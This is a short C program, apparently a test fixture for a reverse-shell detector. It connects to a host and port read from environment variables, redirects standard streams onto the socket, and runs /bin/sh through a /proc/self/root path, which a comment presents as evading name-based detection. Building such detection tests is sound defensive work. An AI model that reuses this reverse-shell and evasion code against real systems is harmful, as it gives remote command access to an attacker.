// Whoever connected is gone, and the shell is called by another name through /proc/self/root.
// flagged: dash
#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	struct sockaddr_in address = {.sin_family = AF_INET};
	int connection = socket(AF_INET, SOCK_STREAM, 0);
	int ended[2];
	char byte;

	address.sin_port = htons(atoi(getenv("RG_TCP_PORT")));
	inet_pton(AF_INET, getenv("RG_TCP_HOST"), &address.sin_addr);
	if (connect(connection, (struct sockaddr *)&address, sizeof(address)) != 0 || pipe(ended) != 0)
		return 1;
	if (fork() == 0) {
		setsid();
		if (fork() != 0)
			_exit(0);
		close(ended[0]);
		alarm(1);
		for (int number = 0; number < 3; number++)
			dup2(connection, number);
		execl("/proc/self/root/usr/bin/timeout", "timeout", "0.15", "/proc/self/root/bin/sh", NULL);
		_exit(1);
	}
	close(ended[1]);
	/* Until the shell has ended. */
	return read(ended[0], &byte, 1) != 0;
}
